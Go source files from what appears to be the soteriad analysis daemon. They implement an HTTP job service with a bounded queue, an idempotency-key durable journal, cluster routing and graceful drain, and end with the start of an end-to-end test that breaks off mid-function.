		resp.Cached = results[0].Cached
		resp.Result = withTiming(results[0].Record)
		resp.Error = results[0].Err
		resp.Node = results[0].Node
	}
	writeJSON(w, code, resp)
}

// applyIdemHeader merges the Idempotency-Key header into a parsed
// job. The body field wins when both are present and equal; differing
// values are a client bug worth surfacing.
func applyIdemHeader(j *job, r *http.Request) *httpError {
	h := r.Header.Get("Idempotency-Key")
	if h == "" {
		return nil
	}
	if herr := validateIdemKey(h); herr != nil {
		return herr
	}
	if j.idemKey != "" && j.idemKey != h {
		return badRequest("idempotency_key %q and Idempotency-Key header %q differ", j.idemKey, h)
	}
	j.idemKey = h
	return nil
}

// handleAnalyze serves POST /v1/analyze. The persistent store is
// consulted before any queueing: a content hit answers immediately
// without occupying a worker, so re-analyses of known apps are cheap
// even under full load.
func (s *Server) handleAnalyze(w http.ResponseWriter, r *http.Request) {
	data, herr := s.readBody(w, r)
	if herr == nil {
		var j *job
		j, herr = s.parseAnalyze(data)
		if herr == nil {
			herr = applyIdemHeader(j, r)
		}
		if herr == nil {
			j.raw = data
			s.finishOrQueue(w, r, j)
			return
		}
	}
	writeError(w, herr.code, "%s", herr.msg)
}

// handleBatch serves POST /v1/batch.
func (s *Server) handleBatch(w http.ResponseWriter, r *http.Request) {
	data, herr := s.readBody(w, r)
	if herr == nil {
		var j *job
		j, herr = s.parseBatch(data)
		if herr == nil {
			herr = applyIdemHeader(j, r)
		}
		if herr == nil {
			s.finishOrQueue(w, r, j)
			return
		}
	}
	writeError(w, herr.code, "%s", herr.msg)
}

// finishOrQueue completes a job from the store when every item is a
// hit, otherwise queues it — waiting for completion on sync requests,
// returning 202 + poll URL on async ones.
//
// Ordering for durability: the idempotency claim is taken first (so
// concurrent resubmissions cannot both run), then the accepted entry
// is fsynced into the journal, and only then is the job queued and
// acknowledged. A crash before the ack can at worst re-run a job the
// client never saw accepted; a crash after it cannot lose the job.
func (s *Server) finishOrQueue(w http.ResponseWriter, r *http.Request, j *job) {
	j.id = newJobID()
	// The trace ID is fixed before the job is published anywhere (the
	// idempotency index, the journal, the queue): every log line and
	// response about this job carries the same ID.
	j.trace = requestTrace(r)
	j.forwarded = r.Header.Get(ForwardedHeader) != ""
	if j.idemKey != "" {
		if prev, claimed := s.claimIdem(j.idemKey, j); !claimed {
			// Resubmission: the key's original job answers, whatever
			// state it is in — terminal jobs return their results
			// without re-running the analysis, in-flight ones a poll
			// handle.
			s.idemHits.Add(1)
			code := http.StatusOK
			if st, _, _ := prev.snapshot(); st != statusDone && st != statusFailed {
				code = http.StatusAccepted
			}
			respondJob(w, code, prev)
			return
		}
	}
	if s.finishFromStore(j) {
		s.registerJob(j)
		respondJob(w, http.StatusOK, j)
		return
	}
	if s.maybeRoute(w, r, j) {
		return
	}
	if err := s.journal.append(acceptedEvent(j)); err != nil {
		// Durability cannot be promised; better a retryable 503 than an
		// acknowledged job a crash would silently lose.
		s.releaseIdem(j.idemKey, j)
		s.logger.Error("journal accepted append failed", "job", j.id, "trace", j.trace, "error", err)
		w.Header().Set(TraceHeader, j.trace)
		writeError(w, http.StatusServiceUnavailable, "job journal write failed")
		return
	}
	if err := s.submit(j); err != nil {
		// Withdraw the accepted entry so a restart does not resurrect a
		// job the client was told to retry, and free its key.
		if jerr := s.journal.append(journalEvent{Op: opRejected, Job: j.id, Idem: j.idemKey}); jerr != nil {
			s.logger.Error("journal rejected append failed", "job", j.id, "trace", j.trace, "error", jerr)
		}
		w.Header().Set(TraceHeader, j.trace)
		s.releaseIdem(j.idemKey, j)
		s.rejectSubmit(w, err)
		return
	}
	if j.async {
		respondJob(w, http.StatusAccepted, j)
		return
	}
	select {
	case <-j.done:
		code := http.StatusOK
		if st, _, _ := j.snapshot(); st == statusFailed {
			code = http.StatusUnprocessableEntity
		}
		respondJob(w, code, j)
	case <-r.Context().Done():
		// Client gone; the job keeps running and lands in the store,
		// so a retried request becomes a cache hit.
	}
}

// finishFromStore serves a whole job from the persistent backend —
// the local store, or the fleet's peer-routed view of it, so a node
// answers from any replica's cache before analyzing or forwarding.
// All items must hit; a partial hit set still queues the job (the
// worker's cache reuses whatever is warm).
func (s *Server) finishFromStore(j *job) bool {
	if s.cfg.Store == nil && s.cfg.Cluster == nil {
		return false
	}
	root := obs.NewRoot("job")
	root.Set("trace", j.trace)
	root.Set("cached", "true")
	results := make([]itemResult, len(j.items))
	for i, it := range j.items {
		key := core.AnalysisKey(it.Sources, j.opts)
		rec, ok := s.backend.Get(key)
		if !ok {
			return false
		}
		results[i] = itemResult{Key: it.Key, StoreKey: key, Cached: true, Record: rec}
	}
	s.jobsDone.Add(1)
	root.End()
	j.mu.Lock()
	j.status = statusDone
	j.results = results
	j.elapsed = root.Duration()
	j.span = root
	j.mu.Unlock()
	close(j.done)
	s.jobLatency.Observe(root.Duration())
	return true
}

// handleJob serves GET /v1/jobs/{id}.
func (s *Server) handleJob(w http.ResponseWriter, r *http.Request) {
	j, ok := s.lookupJob(r.PathValue("id"))
	if !ok {
		writeError(w, http.StatusNotFound, "unknown job %q", r.PathValue("id"))
		return
	}
	respondJob(w, http.StatusOK, j)
}

// handleResult serves GET /v1/results/{hash} straight from the LOCAL
// store — deliberately not the cluster backend. Peers resolve a key by
// asking its owner on this endpoint, so an owner answering from its
// own disk (and never re-routing) is what terminates every cross-node
// read in one hop.
func (s *Server) handleResult(w http.ResponseWriter, r *http.Request) {
	hash := r.PathValue("hash")
	rec, ok := s.cfg.Store.Get(hash)
	if !ok {
		writeError(w, http.StatusNotFound, "no stored result for %q", hash)
		return
	}
	data, err := report.Encode(rec)
	if err != nil {
		writeError(w, http.StatusInternalServerError, "encoding record: %v", err)
		return
	}
	w.Header().Set("Content-Type", "application/json")
	w.Write(data)
}

// handleHealth serves GET /healthz: 200 while serving, 503 once
// draining so load balancers stop routing here before shutdown.
func (s *Server) handleHealth(w http.ResponseWriter, r *http.Request) {
	if s.Draining() {
		writeJSON(w, http.StatusServiceUnavailable, map[string]any{"status": "draining"})
		return
	}
	writeJSON(w, http.StatusOK, map[string]any{
		"status":         "ok",
		"uptime_seconds": int64(time.Since(s.started).Seconds()),
		"workers":        s.cfg.Workers,
	})
}
