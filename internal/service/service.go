// Package service is soteriad's serving tier: an HTTP JSON API over
// the core analysis pipeline, backed by a bounded job queue with
// per-job deadlines and the persistent content-addressed result store.
//
// Request lifecycle:
//
//	POST /v1/analyze ──▶ validate ──▶ store lookup ──hit──▶ 200 (cached)
//	                                      │miss
//	                                      ▼
//	                          bounded queue ──full──▶ 429 + Retry-After
//	                                      │
//	                                      ▼
//	                   worker pool (guard budgets, panic isolation)
//	                                      │
//	                                      ▼
//	                       store write-through ──▶ 200 / 202+poll
//
// Every analysis runs inside the resilience layer of PR 1 — resource
// budgets, cooperative cancellation, recovery boundaries — so a
// hostile or explosive app degrades one job, never the process. On
// SIGTERM the daemon stops accepting work (503), drains queued and
// in-flight jobs, and only then exits; a drain deadline cancels the
// jobs' budgets so even explosive analyses exit promptly with partial
// results.
package service

import (
	"container/list"
	"context"
	"crypto/rand"
	"encoding/hex"
	"fmt"
	"io"
	"log/slog"
	"runtime"
	"sync"
	"sync/atomic"
	"time"

	"github.com/soteria-analysis/soteria/internal/cluster"
	"github.com/soteria-analysis/soteria/internal/core"
	"github.com/soteria-analysis/soteria/internal/fsio"
	"github.com/soteria-analysis/soteria/internal/guard"
	"github.com/soteria-analysis/soteria/internal/obs"
	"github.com/soteria-analysis/soteria/internal/report"
	"github.com/soteria-analysis/soteria/internal/store"
)

// Config configures a Server. The zero value is serviceable: defaults
// fill in workers, queue depth, timeouts, and size caps; Store may be
// nil for a purely in-memory (process-lifetime) cache.
type Config struct {
	// Workers is the number of concurrent analysis workers (default
	// GOMAXPROCS).
	Workers int
	// QueueDepth bounds the number of queued (not yet running) jobs;
	// past it, submissions are rejected with 429 (default 64).
	QueueDepth int
	// JobTimeout is the wall-clock ceiling per job; requests may ask
	// for less, never more (default 60s).
	JobTimeout time.Duration
	// MaxBodyBytes caps the request body (default 8 MiB).
	MaxBodyBytes int64
	// MaxSourceBytes caps one app's Groovy source (default 1 MiB).
	MaxSourceBytes int
	// MaxBatchItems caps items per batch request (default 64).
	MaxBatchItems int
	// Parallel is the per-analysis property-checking worker count
	// passed through to the pipeline (default 1).
	Parallel int
	// Limits are the per-job resource limits (states, BDD nodes, SAT
	// conflicts, formula depth); the zero value is unlimited. The
	// wall clock is governed by JobTimeout.
	Limits guard.Limits
	// Store is the persistent result store; nil disables cross-restart
	// memoization (in-process caching still applies).
	Store *store.Store
	// Cluster, when non-nil, turns this node into one member of a
	// sharded fleet: sync requests route to each key's ring owner and
	// federate back, and the result store reads and writes through the
	// owning replica (Store becomes the node's local shard). Nil keeps
	// the single-node behavior unchanged.
	Cluster *cluster.Cluster
	// JournalPath enables the durable job journal ("" disables): every
	// accepted job is journaled and fsynced before its acknowledgment,
	// and on restart the journal is replayed — incomplete jobs
	// re-enqueue under their original IDs, terminal jobs rebuild the
	// /v1/jobs table, and idempotency keys dedupe resubmissions.
	JournalPath string
	// FS overrides the journal's filesystem (nil = fsio.OS{}); tests
	// inject fsio.Faulty, the chaos harness fsio.Chaos.
	FS fsio.FS
	// RetryAfter is the backoff hint attached to 429 responses
	// (default 1s, rounded up to whole seconds).
	RetryAfter time.Duration
	// MaxJobRecords bounds the completed-job records retained for
	// GET /v1/jobs (default 1024; oldest are dropped).
	MaxJobRecords int
	// Logger receives structured request and job logs (every line
	// carries the job's trace ID); nil discards them.
	Logger *slog.Logger
	// SlowJobThreshold, when positive, dumps the full span tree of any
	// job whose wall time exceeds it to the log at Warn level.
	SlowJobThreshold time.Duration
}

func (c Config) withDefaults() Config {
	if c.Workers <= 0 {
		c.Workers = runtime.GOMAXPROCS(0)
	}
	if c.QueueDepth <= 0 {
		c.QueueDepth = 64
	}
	if c.JobTimeout <= 0 {
		c.JobTimeout = 60 * time.Second
	}
	if c.MaxBodyBytes <= 0 {
		c.MaxBodyBytes = 8 << 20
	}
	if c.MaxSourceBytes <= 0 {
		c.MaxSourceBytes = 1 << 20
	}
	if c.MaxBatchItems <= 0 {
		c.MaxBatchItems = 64
	}
	if c.RetryAfter <= 0 {
		c.RetryAfter = time.Second
	}
	if c.MaxJobRecords <= 0 {
		c.MaxJobRecords = 1024
	}
	return c
}

// jobStatus is a job's lifecycle state.
type jobStatus string

const (
	statusQueued  jobStatus = "queued"
	statusRunning jobStatus = "running"
	statusDone    jobStatus = "done"
	statusFailed  jobStatus = "failed"
)

// itemResult is one item's outcome inside a job.
type itemResult struct {
	Key      string         // caller's item key ("" for single analyses)
	StoreKey string         // content address of the result
	Cached   bool           // served from cache without re-analysis
	Record   *report.Record // nil when Err != ""
	Err      string
	Node     string // fleet member that produced the result ("" = this node, pre-cluster)
}

// job is one queued unit of work: a single analysis or a batch.
type job struct {
	id      string
	idemKey string // client-supplied idempotency key ("" = none)
	batch   bool
	async   bool
	items   []core.BatchItem
	opts    core.Options
	// trace is the job's trace ID: adopted from a valid X-Soteria-Trace
	// request header or minted at submission, then stamped on every log
	// line, response header, and journal entry. Written once before the
	// job is published (idempotency claim / queue), never after.
	trace string
	// timings requests the span tree in the job's response records.
	timings bool
	// forwarded marks a request that already crossed a routing hop: it
	// is served locally, never re-routed (the loop guard).
	forwarded bool
	// raw is the validated request body, kept for forwarding a
	// single-analysis job to its ring owner byte-for-byte.
	raw []byte
	// breq is the decoded batch request, kept for splitting a batch
	// into per-owner sub-batches (nil for single analyses).
	breq *batchRequest
	// queuedAt feeds the queue-wait histogram (zero = not queued).
	queuedAt time.Time

	done chan struct{} // closed on completion

	mu      sync.Mutex
	status  jobStatus
	results []itemResult
	elapsed time.Duration
	// span is the job's completed trace tree (nil until terminal).
	span *obs.Span
}

func (j *job) setStatus(s jobStatus) {
	j.mu.Lock()
	j.status = s
	j.mu.Unlock()
}

// snapshot returns the job's current state under its lock.
func (j *job) snapshot() (jobStatus, []itemResult, time.Duration) {
	j.mu.Lock()
	defer j.mu.Unlock()
	return j.status, j.results, j.elapsed
}

// spanTree returns the job's completed trace tree (nil until terminal).
func (j *job) spanTree() *obs.Span {
	j.mu.Lock()
	defer j.mu.Unlock()
	return j.span
}

// Server is the analysis service. Create one with New, mount
// Handler() on an http.Server, and call Shutdown to drain.
type Server struct {
	cfg    Config
	cache  *store.AnalysisCache
	logger *slog.Logger
	// backend is the persistent level requests read through: the local
	// store alone, or the cluster's peer-routed view of it.
	backend store.Backend

	queue    chan *job
	quiesce  sync.RWMutex // submitters hold R; Shutdown holds W to close queue
	draining atomic.Bool
	workers  sync.WaitGroup
	baseCtx  context.Context
	cancel   context.CancelFunc

	queueDepth guard.Gauge
	inflight   guard.Gauge

	jobsDone, jobsFailed, jobsRejected atomic.Int64

	// Cluster-routing counters: requests (or batch groups) forwarded to
	// their ring owner, and owner-unreachable local fallbacks.
	routeForwards, routeFallbacks atomic.Int64

	// journal is the durable job log (nil when Config.JournalPath is
	// empty — every append is then a no-op).
	journal *journal
	// Restart-recovery and idempotency counters for /metrics.
	jobsReplayed, jobsReenqueued, idemHits, journalDupKeys atomic.Int64

	// Latency histograms (log-spaced buckets, atomic): job end-to-end
	// wall time, queue wait at worker pickup, per-phase and per-engine
	// check durations. The maps are built once in New and read-only
	// after, so workers index them without a lock.
	jobLatency *obs.Histogram
	queueWait  *obs.Histogram
	phaseHist  map[string]*obs.Histogram
	engineHist map[string]*obs.Histogram

	// Engine/BDD-kernel and memo counters aggregated from job span
	// trees, surfaced on /metrics.
	bddNodes, bddITELookups, bddITEHits, bddOpLookups, bddOpHits atomic.Int64
	memoLookups, memoHits, memoSubformulas                       atomic.Int64
	slowJobs                                                     atomic.Int64

	jobsMu   sync.Mutex
	jobs     map[string]*job
	jobOrder *list.List      // of job IDs, oldest at back
	idem     map[string]*job // idempotency key → accepted job

	started time.Time
}

// phaseNames and engineNames fix the label sets (and exposition order)
// of the phase and engine histogram families.
var phaseNames = []string{"ir", "statemodel", "kripke", "check.general", "check"}

var engineNames = []string{"explicit", "bdd", "bmc"}

// testHookJobRunning, when set, is called by workers right after a
// job transitions to running. Tests use it to hold workers in place
// and exercise backpressure and drain deterministically. Atomic so a
// test restoring it cannot race a worker still draining.
var testHookJobRunning atomic.Pointer[func(*job)]

// New creates and starts a Server: its worker pool is live on return.
// With a journal configured, New first replays it — rebuilding the job
// table and idempotency index, truncating any torn tail, compacting
// completed history — and re-enqueues every job that was accepted but
// not yet terminal when the previous process died.
func New(cfg Config) (*Server, error) {
	cfg = cfg.withDefaults()
	if cfg.Logger == nil {
		cfg.Logger = slog.New(slog.NewTextHandler(io.Discard, nil))
	}
	ctx, cancel := context.WithCancel(context.Background())
	var backend store.Backend = cfg.Store
	if cfg.Cluster != nil {
		backend = cfg.Cluster.Backend(cfg.Store)
	}
	s := &Server{
		cfg:        cfg,
		cache:      store.NewAnalysisCache(backend),
		backend:    backend,
		logger:     cfg.Logger,
		baseCtx:    ctx,
		cancel:     cancel,
		jobs:       map[string]*job{},
		jobOrder:   list.New(),
		idem:       map[string]*job{},
		started:    time.Now(),
		jobLatency: obs.NewHistogram(obs.DefaultLatencyBounds()),
		queueWait:  obs.NewHistogram(obs.DefaultLatencyBounds()),
		phaseHist:  map[string]*obs.Histogram{},
		engineHist: map[string]*obs.Histogram{},
	}
	for _, p := range phaseNames {
		s.phaseHist[p] = obs.NewHistogram(obs.DefaultLatencyBounds())
	}
	for _, e := range engineNames {
		s.engineHist[e] = obs.NewHistogram(obs.DefaultLatencyBounds())
	}

	queueCap := cfg.QueueDepth
	var requeue []*job
	if cfg.JournalPath != "" {
		jr, events, err := openJournal(cfg.JournalPath, cfg.FS)
		if err != nil {
			cancel()
			return nil, err
		}
		s.journal = jr
		out := replayEvents(events, s.backend)
		s.jobsReplayed.Store(int64(len(out.jobs)))
		s.journalDupKeys.Store(int64(out.dupKeys))
		for _, j := range out.jobs { // oldest first, so newest ends in front
			s.registerJob(j)
		}
		for k, j := range out.idem {
			s.idem[k] = j
		}
		requeue = out.requeue
		// Re-enqueued jobs must not consume the fresh process's
		// backpressure budget: grow the queue to hold them all.
		queueCap += len(requeue)
		if err := jr.compact(compactEvents(out)); err != nil {
			cancel()
			return nil, err
		}
		if len(events) > 0 || jr.replay.TruncatedBytes > 0 {
			s.logger.Info("journal replayed",
				"events", len(events), "jobs", len(out.jobs), "reenqueued", len(requeue),
				"dup_keys", out.dupKeys, "truncated_bytes", jr.replay.TruncatedBytes)
		}
	}

	s.queue = make(chan *job, queueCap)
	for _, j := range requeue {
		j.setStatus(statusQueued)
		j.queuedAt = time.Now()
		s.queue <- j
		s.queueDepth.Inc()
	}
	s.jobsReenqueued.Store(int64(len(requeue)))

	for i := 0; i < cfg.Workers; i++ {
		s.workers.Add(1)
		go s.worker()
	}
	return s, nil
}

// replayOutcome is the state rebuilt from a journal's events.
type replayOutcome struct {
	jobs    []*job // accepted order, oldest first (rejected ones dropped)
	idem    map[string]*job
	requeue []*job // accepted but not terminal: run them again
	dupKeys int
}

// replayEvents folds journal events into jobs. Terminal results are
// rehydrated from the content-addressed backend when it still holds
// the record — on a fleet member that read goes through the owning
// peer, since write-through placed the record on the key's owner, not
// necessarily on the node that ran the job. A missing record leaves
// the result's store key and status; the verdict bytes are
// re-derivable by resubmission.
func replayEvents(events []journalEvent, st store.Backend) replayOutcome {
	out := replayOutcome{idem: map[string]*job{}}
	byID := map[string]*job{}
	rejected := map[string]bool{}
	for _, ev := range events {
		switch ev.Op {
		case opAccepted:
			if byID[ev.Job] != nil {
				continue // duplicate accepted entry
			}
			if ev.Idem != "" && out.idem[ev.Idem] != nil {
				// A resubmission journaled inside a crash window: the
				// first accepted job answers for the key; running the
				// duplicate would analyze the same content twice.
				out.dupKeys++
				continue
			}
			j := jobFromAccepted(ev)
			byID[ev.Job] = j
			out.jobs = append(out.jobs, j)
			if j.idemKey != "" {
				out.idem[j.idemKey] = j
			}
		case opRejected:
			if j := byID[ev.Job]; j != nil {
				rejected[ev.Job] = true
				if j.idemKey != "" && out.idem[j.idemKey] == j {
					delete(out.idem, j.idemKey)
				}
			}
		case opDone, opFailed:
			j := byID[ev.Job]
			if j == nil {
				// Done-after-crash ordering: the terminal entry landed
				// (or survived compaction) without its accepted entry.
				// Surface the terminal state; there is nothing to re-run.
				j = &job{
					id: ev.Job, idemKey: ev.Idem, batch: ev.Batch, trace: ev.Trace,
					async: true, done: make(chan struct{}),
				}
				byID[ev.Job] = j
				out.jobs = append(out.jobs, j)
				if ev.Idem != "" && out.idem[ev.Idem] == nil {
					out.idem[ev.Idem] = j
				}
			}
			if j.status == statusDone || j.status == statusFailed {
				continue // duplicate terminal entry
			}
			j.status = statusDone
			if ev.Op == opFailed {
				j.status = statusFailed
			}
			j.elapsed = time.Duration(ev.ElapsedMS) * time.Millisecond
			for _, r := range ev.Results {
				ir := itemResult{Key: r.Key, StoreKey: r.StoreKey, Cached: r.Cached, Err: r.Err}
				if r.Err == "" && r.StoreKey != "" && st != nil {
					if rec, ok := st.Get(r.StoreKey); ok {
						ir.Record = rec
					}
				}
				j.results = append(j.results, ir)
			}
			close(j.done)
		}
	}
	kept := out.jobs[:0]
	for _, j := range out.jobs {
		if rejected[j.id] {
			continue
		}
		kept = append(kept, j)
		if j.status == statusQueued && len(j.items) > 0 {
			out.requeue = append(out.requeue, j)
		}
	}
	out.jobs = kept
	return out
}

// compactEvents renders replayed state back to a minimal journal:
// full accepted entries for jobs that still need to run, slim
// accepted+terminal pairs for completed ones (their payloads live in
// the store, not the journal).
func compactEvents(out replayOutcome) []journalEvent {
	var evs []journalEvent
	for _, j := range out.jobs {
		switch j.status {
		case statusDone, statusFailed:
			evs = append(evs,
				journalEvent{Op: opAccepted, Job: j.id, Idem: j.idemKey, Batch: j.batch, Trace: j.trace},
				terminalEvent(j, j.status, j.results, j.elapsed))
		default:
			evs = append(evs, acceptedEvent(j))
		}
	}
	return evs
}

// terminalEvent renders a job's completion for the journal.
func terminalEvent(j *job, status jobStatus, results []itemResult, elapsed time.Duration) journalEvent {
	op := opDone
	if status == statusFailed {
		op = opFailed
	}
	ev := journalEvent{
		Op: op, Job: j.id, Idem: j.idemKey, Batch: j.batch, Trace: j.trace,
		ElapsedMS: elapsed.Milliseconds(),
	}
	for _, r := range results {
		ev.Results = append(ev.Results, journalResult{
			Key: r.Key, StoreKey: r.StoreKey, Cached: r.Cached, Err: r.Err,
		})
	}
	return ev
}

// newJobID returns a 16-hex-char random job ID.
func newJobID() string {
	var b [8]byte
	if _, err := rand.Read(b[:]); err != nil {
		// math-free fallback: timestamp-derived, still unique enough
		// for a local job table.
		return fmt.Sprintf("t%015x", time.Now().UnixNano())
	}
	return hex.EncodeToString(b[:])
}

// errQueueFull and errDraining classify rejected submissions.
var (
	errQueueFull = fmt.Errorf("service: job queue is full")
	errDraining  = fmt.Errorf("service: server is draining")
)

// submit enqueues a job, registering it in the job table. It never
// blocks: a full queue or a draining server rejects immediately.
func (s *Server) submit(j *job) error {
	s.quiesce.RLock()
	defer s.quiesce.RUnlock()
	if s.draining.Load() {
		s.jobsRejected.Add(1)
		return errDraining
	}
	// queuedAt must land before the channel send publishes j to a
	// worker.
	j.queuedAt = time.Now()
	select {
	case s.queue <- j:
		s.queueDepth.Inc()
		s.registerJob(j)
		return nil
	default:
		s.jobsRejected.Add(1)
		return errQueueFull
	}
}

// registerJob retains j for /v1/jobs lookups, evicting the oldest
// record — and its idempotency claim — past the bound.
func (s *Server) registerJob(j *job) {
	s.jobsMu.Lock()
	defer s.jobsMu.Unlock()
	s.jobs[j.id] = j
	s.jobOrder.PushFront(j.id)
	for s.jobOrder.Len() > s.cfg.MaxJobRecords {
		oldest := s.jobOrder.Back()
		s.jobOrder.Remove(oldest)
		id := oldest.Value.(string)
		if old := s.jobs[id]; old != nil && old.idemKey != "" && s.idem[old.idemKey] == old {
			delete(s.idem, old.idemKey)
		}
		delete(s.jobs, id)
	}
}

// lookupJob returns the retained job with the given ID.
func (s *Server) lookupJob(id string) (*job, bool) {
	s.jobsMu.Lock()
	defer s.jobsMu.Unlock()
	j, ok := s.jobs[id]
	return j, ok
}

// claimIdem makes j the holder of an idempotency key, or returns the
// job already holding it. Claims are taken before the accepted entry
// is journaled, so two concurrent resubmissions cannot both run.
func (s *Server) claimIdem(key string, j *job) (existing *job, claimed bool) {
	s.jobsMu.Lock()
	defer s.jobsMu.Unlock()
	if prev, ok := s.idem[key]; ok {
		return prev, false
	}
	s.idem[key] = j
	return nil, true
}

// releaseIdem withdraws a claim — the submission it covered was
// rejected, so a retry with the same key must be allowed to run.
func (s *Server) releaseIdem(key string, j *job) {
	if key == "" {
		return
	}
	s.jobsMu.Lock()
	defer s.jobsMu.Unlock()
	if s.idem[key] == j {
		delete(s.idem, key)
	}
}

// worker drains the queue until Shutdown closes it.
func (s *Server) worker() {
	defer s.workers.Done()
	for j := range s.queue {
		s.queueDepth.Dec()
		if !j.queuedAt.IsZero() {
			s.queueWait.Observe(time.Since(j.queuedAt))
		}
		s.inflight.Inc()
		s.runJob(j)
		s.inflight.Dec()
	}
}

// runJob executes a job under its deadline. The pipeline's own
// recovery boundaries contain panics and budget exhaustion per item;
// anything that still escapes is a per-item Err, never a dead worker.
func (s *Server) runJob(j *job) {
	j.setStatus(statusRunning)
	if hook := testHookJobRunning.Load(); hook != nil {
		(*hook)(j)
	}
	// The root span IS the job's wall clock: elapsed is read from it,
	// so the timing tree's root duration and the job's elapsed_ms are
	// the same measurement.
	root := obs.NewRoot("job")
	root.Set("trace", j.trace)
	ctx, cancel := context.WithTimeout(s.baseCtx, s.cfg.JobTimeout)
	defer cancel()
	ctx = obs.WithSpan(ctx, root)

	bo := core.BatchOptions{
		Options:  j.opts,
		Parallel: 1, // items of one job run sequentially; jobs are the unit of concurrency
		Cache:    s.cache,
	}
	results := core.AnalyzeBatch(ctx, bo, j.items...)

	out := make([]itemResult, len(results))
	failed := false
	for i, r := range results {
		out[i] = itemResult{
			Key:      j.items[i].Key,
			StoreKey: core.AnalysisKey(j.items[i].Sources, j.opts),
			Cached:   r.Cached,
		}
		if r.Err != nil {
			out[i].Err = r.Err.Error()
			failed = true
			continue
		}
		out[i].Record = report.FromAnalysis(r.Analysis)
	}

	status := statusDone
	if failed && !j.batch {
		// A batch with some failing items is still "done" (per-item
		// errors are in the results); a single analysis that failed is
		// a failed job.
		status = statusFailed
	}
	if status == statusFailed {
		s.jobsFailed.Add(1)
	} else {
		s.jobsDone.Add(1)
	}

	root.Set("status", string(status))
	root.End()
	elapsed := root.Duration()
	j.mu.Lock()
	j.status = status
	j.results = out
	j.elapsed = elapsed
	j.span = root
	j.mu.Unlock()
	close(j.done)
	s.recordTelemetry(root)
	// The terminal entry is appended after the results landed in the
	// store, so replay never sees "done" without its record bytes. A
	// failed append degrades durability of this one completion (the
	// job would re-run after a crash — and hit the store), not the job.
	if err := s.journal.append(terminalEvent(j, status, out, elapsed)); err != nil {
		s.logger.Error("journal terminal append failed", "job", j.id, "trace", j.trace, "error", err)
	}
	s.logger.Info("job finished",
		"job", j.id, "trace", j.trace, "status", string(status),
		"elapsed_ms", elapsed.Milliseconds(), "items", len(j.items))
	if s.cfg.SlowJobThreshold > 0 && elapsed >= s.cfg.SlowJobThreshold {
		s.slowJobs.Add(1)
		s.logger.Warn("slow job",
			"job", j.id, "trace", j.trace, "elapsed_ms", elapsed.Milliseconds(),
			"threshold_ms", s.cfg.SlowJobThreshold.Milliseconds(),
			"spans", "\n"+root.Render())
	}
}

// recordTelemetry folds one completed job's span tree into the
// daemon-wide histograms and engine/memo counters.
func (s *Server) recordTelemetry(root *obs.Span) {
	s.jobLatency.Observe(root.Duration())
	root.Walk(func(_ int, sp *obs.Span) {
		switch sp.Name() {
		case "ir", "statemodel", "kripke", "check.general":
			s.phaseHist[sp.Name()].Observe(sp.Duration())
		case "check":
			s.phaseHist["check"].Observe(sp.Duration())
			addSpanInt(sp, "memo_lookups", &s.memoLookups)
			addSpanInt(sp, "memo_hits", &s.memoHits)
			addSpanInt(sp, "memo_subformulas", &s.memoSubformulas)
		case "engine":
			if e, ok := sp.Str("engine"); ok {
				if h := s.engineHist[e]; h != nil {
					h.Observe(sp.Duration())
				}
			}
			addSpanInt(sp, "bdd_nodes", &s.bddNodes)
			addSpanInt(sp, "bdd_ite_lookups", &s.bddITELookups)
			addSpanInt(sp, "bdd_ite_hits", &s.bddITEHits)
			addSpanInt(sp, "bdd_op_lookups", &s.bddOpLookups)
			addSpanInt(sp, "bdd_op_hits", &s.bddOpHits)
		}
	})
}

func addSpanInt(sp *obs.Span, key string, dst *atomic.Int64) {
	if v, ok := sp.Int(key); ok {
		dst.Add(v)
	}
}

// Draining reports whether Shutdown has begun.
func (s *Server) Draining() bool { return s.draining.Load() }

// Shutdown drains the service: new submissions are rejected with 503,
// queued and in-flight jobs run to completion, then the worker pool
// exits. If ctx expires first, the jobs' budgets are canceled so the
// remaining analyses degrade to partial results and finish promptly;
// Shutdown still waits for the workers before returning ctx's error.
func (s *Server) Shutdown(ctx context.Context) error {
	if s.draining.CompareAndSwap(false, true) {
		// Wait out in-flight submitters, then close the queue so idle
		// workers exit once it is drained.
		s.quiesce.Lock()
		close(s.queue)
		s.quiesce.Unlock()
	}
	done := make(chan struct{})
	go func() {
		s.workers.Wait()
		close(done)
	}()
	select {
	case <-done:
		if err := s.journal.close(); err != nil {
			s.logger.Error("journal close failed", "error", err)
		}
		return nil
	case <-ctx.Done():
		s.cancel()
		<-done
		if err := s.journal.close(); err != nil {
			s.logger.Error("journal close failed", "error", err)
		}
		return ctx.Err()
	}
}
