package service

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/soteria-analysis/soteria/internal/guard/faultinject"
	"github.com/soteria-analysis/soteria/internal/paperapps"
	"github.com/soteria-analysis/soteria/internal/store"
)

// newTestServer starts a server plus an httptest front end and tears
// both down in order (drain, then close).
func newTestServer(t *testing.T, cfg Config) (*Server, *httptest.Server) {
	t.Helper()
	s, err := New(cfg)
	if err != nil {
		t.Fatalf("New: %v", err)
	}
	ts := httptest.NewServer(s.Handler())
	t.Cleanup(func() {
		ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
		defer cancel()
		s.Shutdown(ctx)
		ts.Close()
	})
	return s, ts
}

func postJSON(t *testing.T, url string, body any) (*http.Response, map[string]any) {
	t.Helper()
	data, err := json.Marshal(body)
	if err != nil {
		t.Fatalf("marshal: %v", err)
	}
	resp, err := http.Post(url, "application/json", bytes.NewReader(data))
	if err != nil {
		t.Fatalf("POST %s: %v", url, err)
	}
	defer resp.Body.Close()
	var decoded map[string]any
	if err := json.NewDecoder(resp.Body).Decode(&decoded); err != nil {
		t.Fatalf("decoding response: %v", err)
	}
	return resp, decoded
}

func getJSON(t *testing.T, url string) (*http.Response, map[string]any) {
	t.Helper()
	resp, err := http.Get(url)
	if err != nil {
		t.Fatalf("GET %s: %v", url, err)
	}
	defer resp.Body.Close()
	var decoded map[string]any
	if err := json.NewDecoder(resp.Body).Decode(&decoded); err != nil {
		t.Fatalf("decoding response: %v", err)
	}
	return resp, decoded
}

// TestAnalyzeEndToEnd is the acceptance-criteria test: a paper app is
// analyzed over HTTP, the repeated request is served from the
// persistent store (hit counter increments, the pipeline is never
// dispatched — observed via faultinject counters), and the stored
// record is addressable under /v1/results.
func TestAnalyzeEndToEnd(t *testing.T) {
	st, err := store.Open(t.TempDir(), store.Options{})
	if err != nil {
		t.Fatalf("store: %v", err)
	}
	_, ts := newTestServer(t, Config{Workers: 2, Store: st})

	req := map[string]any{"name": "smoke-alarm", "source": paperapps.SmokeAlarm}

